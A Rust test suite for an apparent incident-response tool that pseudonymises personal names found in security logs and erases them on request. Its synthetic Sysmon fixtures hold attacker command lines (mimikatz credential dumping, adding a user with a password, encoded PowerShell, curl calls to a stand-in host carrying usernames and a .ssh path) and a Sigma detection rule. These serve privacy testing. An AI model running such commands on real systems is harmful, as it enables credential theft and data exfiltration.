//! Nobody is named outside the vault, before and after an erasure, whatever was played or recorded.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde_json::Value;

use crate::bulkhead::{run, stderr, stdout};
use crate::drill::tree;

/// The names that the vault of `case` stands for, in lower case.
fn names(case: &Path) -> Vec<String> {
    let mapping = fs::read_to_string(case.join("vault/mapping.ndjson")).expect("a mapping");
    let value = |line: &str| {
        let line: Value = serde_json::from_str(line).expect("JSON");
        line["value"].as_str().expect("a name").to_lowercase()
    };
    mapping.lines().map(value).collect()
}

/// Where a name stands as a word of its own in any byte below `case`, the vault left out; slow and simple.
fn named(case: &Path, names: &[String]) -> Vec<String> {
    let mut found = Vec::new();
    for (path, bytes) in tree(case) {
        if path.starts_with("vault") {
            continue;
        }
        let text = format!("{}\n{}", path.display(), String::from_utf8_lossy(&bytes)).to_lowercase();
        // As it is written, and as it reads.
        let read = bulkhead_journal::plain(&text);
        for (text, name) in [&text, &read].into_iter().flat_map(|text| names.iter().map(move |it| (text, it)))
        {
            let at = text.match_indices(name.as_str()).find(|(at, _)| {
                let part =
                    |c: char| c.is_alphanumeric() || (name.chars().count() < 3 && matches!(c, '-' | '_'));
                !text[..*at].ends_with(part) && !text[at + name.len()..].starts_with(part)
            });
            if let Some((at, _)) = at {
                let around: String = text[at..].chars().take(60).collect();
                found.push(format!("{} in {}: {around}", name, path.display()));
            }
        }
    }
    found
}

/// Checks one case: nobody named outside, then erased, then nobody named at all.
#[track_caller]
fn check(dir: &Path, case: &str, at_least: usize) {
    let place = dir.join(case);
    let names = names(&place);
    assert!(names.len() >= at_least, "{} names only: {names:?}", names.len());
    assert_eq!(named(&place, &names), Vec::<String>::new(), "before the erasure");
    let sound = run(dir, &format!("estate check {case}/estate.yaml"));
    assert_eq!(sound.status.code(), Some(0), "{}{}", stdout(&sound), stderr(&sound));
    let erased = run(dir, &format!("case erase {case} --reason requested --now 2027-01-01T00:00:00Z"));
    assert_eq!(erased.status.code(), Some(0), "{}", stderr(&erased));
    assert!(!place.join("vault").exists());
    assert_eq!(named(&place, &names), Vec::<String>::new(), "after the erasure");
    assert_eq!(run(dir, &format!("case verify {case}")).status.code(), Some(0));
}

#[test]
fn no_scenario_names_anybody_outside_the_vault() {
    let dir = tempfile::tempdir().expect("a folder");
    let list = run(dir.path(), "drill --list");
    let scenarios = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scenarios");
    let ids: Vec<String> = fs::read_dir(scenarios)
        .expect("scenarios")
        .filter_map(|it| it.expect("an entry").path().file_stem().map(|it| it.to_string_lossy().into_owned()))
        .filter(|it| stdout(&list).contains(it.as_str()))
        .collect();
    assert!(ids.len() >= 2, "{ids:?}");
    for id in ids {
        let drill = run(dir.path(), &format!("drill {id} --quiet --out {id}"));
        assert!(matches!(drill.status.code(), Some(0 | 1)), "{id}: {}", stderr(&drill));
        if dir.path().join(&id).join("vault").exists() {
            check(dir.path(), &id, 10);
        }
    }
}

/// Events as a recorder wrote them: accounts in fields, command lines, paths and descriptions.
const EVENTS: &str = r#"{"@timestamp":"2026-03-01T10:00:00Z","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"WS-7.corp.example","User":"CORP\\Jane.Doe","Image":"C:\\Users\\Jane.Doe\\AppData\\evil.exe","CommandLine":"mimikatz.exe sekurlsa::logonpasswords /user:CORP\\Otto.Kurz","ParentUser":"CORP\\jane.doe"}
{"@timestamp":"2026-03-01T10:01:00Z","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"WS-7.corp.example","User":"NT AUTHORITY\\SYSTEM","Image":"C:\\Windows\\System32\\net.exe","CommandLine":"mimikatz & net user li.wei Secret1! /add & copy C:\\Users\\mueller\\x D:\\"}
{"@timestamp":"2026-03-01T10:02:00Z","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"WS-7.corp.example","User":"NT AUTHORITY\\SYSTEM","Image":"C:\\Windows\\System32\\powershell.exe","CommandLine":"mimikatz & powershell -enc bgBlAHQAIAB1AHMAZQByACAAagBhAG4AZQAuAGQAbwBlACAALwBhAGMAdABpAHYAZQA= & curl http://x/?u=%6A%61%6E%65%2E%64%6F%65&v=eHggb3R0by5rdXJ6 & echo 6a616e652e646f65 li.wei7"}
"#;
/// Names as these events hold them in other writings.
const ENCODED: [&str; 5] = [
    "bgBlAHQAIAB1AHMAZQByACAAagBhAG4AZQAuAGQAbwBlACAALwBhAGMAdABpAHYAZQA=",
    "eHggb3R0by5rdXJ6",
    "%6A%61%6E%65%2E%64%6F%65",
    "6a616e652e646f65",
    "li.wei7",
];

const RULE: &str = "title: Credential dumping tool\nid: 4b6c2a3e-0000-4000-8000-000000000001\nlevel: critical\ntags: [attack.credential-access, attack.t1003.001]\n\
logsource: {product: windows, category: process_creation}\ndetection:\n  s: {CommandLine|contains: mimikatz}\n  condition: s\n";

#[test]
fn recorded_telemetry_names_nobody_outside_the_vault() {
    let dir = tempfile::tempdir().expect("a folder");
    fs::create_dir(dir.path().join("logs")).expect("made");
    fs::write(dir.path().join("logs/jane.doe.json"), EVENTS).expect("written");
    fs::write(dir.path().join("rule.yml"), RULE).expect("written");
    let output = run(dir.path(), "respond logs --rules rule.yml --out case --yes --quiet");
    assert_eq!(output.status.code(), Some(0), "{}{}", stdout(&output), stderr(&output));
    let known = names(&dir.path().join("case"));
    for name in ["jane.doe", "otto.kurz", "li.wei", "mueller"] {
        assert!(known.iter().any(|it| it == name), "{name} is not among {known:?}");
    }
    assert!(!known.iter().any(|it| it == "system"), "a principal is no person: {known:?}");
    // People at work lose nothing.
    let show = run(dir.path(), "case show case");
    assert!(stdout(&show).to_lowercase().contains("jane.doe"), "{}", stdout(&show));
    let readable = fs::read_to_string(dir.path().join("case/vault/named/report.html")).expect("readable");
    assert!(readable.to_lowercase().contains("jane.doe"));
    let export = run(dir.path(), "case export case --named --out named");
    assert_eq!(export.status.code(), Some(0), "{}", stderr(&export));
    let incident = fs::read_to_string(dir.path().join("named/incident.json")).expect("exported");
    assert!(incident.to_lowercase().contains("jane.doe"));
    for (path, bytes) in tree(&dir.path().join("case")).iter().filter(|it| !it.0.starts_with("vault")) {
        let text = String::from_utf8_lossy(bytes);
        let hidden: Vec<&str> = ENCODED.into_iter().filter(|it| text.contains(it)).collect();
        assert_eq!(hidden, Vec::<&str>::new(), "{}", path.display());
    }
    check(dir.path(), "case", 4);
    let gone = run(dir.path(), "case export case --named --out again");
    assert_eq!(gone.status.code(), Some(2), "{}", stdout(&gone));
    let show = run(dir.path(), "case show case");
    assert_eq!(show.status.code(), Some(0));
    assert!(!stdout(&show).to_lowercase().contains("jane.doe"));
}

/// Commands that name somebody, as a recorder wrote them, and who that is.
const COMMANDS: [(&str, &str); 16] = [
    (r#"net user /domain "Max Brod""#, "max brod"),
    ("ssh dymant@srv", "dymant"),
    ("scp x.tar felice@10.0.0.7:/tmp", "felice"),
    (r"type C:\Users\milena jesenska", "milena jesenska"),
    ("explorer file:///C:/Users/Robert%20Klopstock/Desktop", "robert klopstock"),
    ("curl http://x/?p=%2Fhome%2Fgrete%2F.ssh", "grete"),
    (r"copy C:\Users\Sean O'Brien\x D:", "sean o'brien"),
    ("echo Sean O\u{2019}Brien Sean O&#39;Brien Sean%20O%27Brien", "sean o'brien"),
    (r#"dsadd user "CN=Oskar Pollak,OU=Staff,DC=corp""#, "oskar pollak"),
    ("ls /home/ottla", "ottla"),
    ("cat /home/jose\u{301}phine/x; cat /home/jos\u{e9}phine/y", "jos\u{e9}phine"),
    ("cat /home/hed\u{200b}wig/x and hedwig and \u{ff48}\u{ff45}\u{ff44}wig", "hedwig"),
    ("echo \u{ff24}\u{ff39}\u{ff2d}ANT D%59MANT d\u{ad}ymant \\u0064ymant", "dymant"),
    ("runas /user:CORP\\julie.wohryzek cmd", "julie.wohryzek"),
    ("mysql -u tile.roessler -p", "tile.roessler"),
    ("mail https://doris:pw@srv/", "doris"),
];

#[test]
fn commands_name_nobody_outside_the_vault_in_any_spelling() {
    let dir = tempfile::tempdir().expect("a folder");
    let event = |(n, (command, _)): (usize, &(&str, &str))| {
        let line = format!("mimikatz & {command}");
        let event = serde_json::json!({
            "@timestamp": format!("2026-03-01T10:{n:02}:00Z"), "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": 1, "Computer": "WS-7.corp.example", "User": "NT AUTHORITY\\SYSTEM",
            "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": line,
        });
        format!("{event}\n")
    };
    let events: String = COMMANDS.iter().enumerate().map(event).collect();
    fs::write(dir.path().join("e.json"), events).expect("written");
    fs::write(dir.path().join("rule.yml"), RULE).expect("written");
    let output = run(dir.path(), "respond e.json --rules rule.yml --out case --yes --quiet");
    assert_eq!(output.status.code(), Some(0), "{}{}", stdout(&output), stderr(&output));
    let known = names(&dir.path().join("case"));
    for (command, name) in COMMANDS {
        assert!(known.iter().any(|it| it == name), "{command}: {name} is not among {known:?}");
    }
    check(dir.path(), "case", 14);
}

#[test]
fn the_vault_is_its_owners_alone_and_its_key_is_new_every_time() {
    let dir = tempfile::tempdir().expect("a folder");
    fs::write(dir.path().join("e.json"), EVENTS).expect("written");
    fs::write(dir.path().join("rule.yml"), RULE).expect("written");
    for (out, seed) in [("a", ""), ("b", ""), ("c", "--seed 3"), ("d", "--seed 3")] {
        let output = run(dir.path(), &format!("respond e.json --rules rule.yml --out {out} --quiet {seed}"));
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        assert_eq!(
            stdout(&output).contains("derived from the seed"),
            !seed.is_empty(),
            "{}",
            stdout(&output)
        );
        assert!(stdout(&output).contains("DEMONSTRATION"), "{}", stdout(&output));
    }
    let key = |case: &str| fs::read_to_string(dir.path().join(case).join("vault/key")).expect("a key");
    assert!(key("a") != key("b"), "two cases share a key");
    assert_eq!(key("c"), key("d"));
    let vault = dir.path().join("a/vault");
    let mode = |path: &Path| fs::metadata(path).expect("there").permissions().mode() & 0o777;
    assert_eq!(mode(&vault), 0o700);
    for path in tree(&vault).keys() {
        assert_eq!(mode(&vault.join(path)), 0o600, "{}", path.display());
    }
}

#[test]
fn an_erasure_needs_a_reason_and_the_reason_names_nobody() {
    let dir = tempfile::tempdir().expect("a folder");
    assert_eq!(run(dir.path(), "drill --quiet --out case").status.code(), Some(0));
    let known = names(&dir.path().join("case"));
    assert!(known.iter().any(|it| it == "m.leroy"), "{known:?}");
    assert_eq!(run(dir.path(), "case erase case").status.code(), Some(2));
    let erase = |reason: &str| {
        std::process::Command::new(env!("CARGO_BIN_EXE_bulkhead"))
            .args(["case", "erase", "case", "--reason", reason])
            .current_dir(dir.path())
            .output()
            .expect("it runs")
    };
    assert_eq!(erase(" ").status.code(), Some(2));
    assert!(dir.path().join("case/vault").exists());
    assert_eq!(erase("request of M.Leroy").status.code(), Some(0));
    let verified = run(dir.path(), "case verify case");
    assert!(stdout(&verified).contains("request of account-"), "{}", stdout(&verified));
    assert_eq!(named(&dir.path().join("case"), &known), Vec::<String>::new());
}
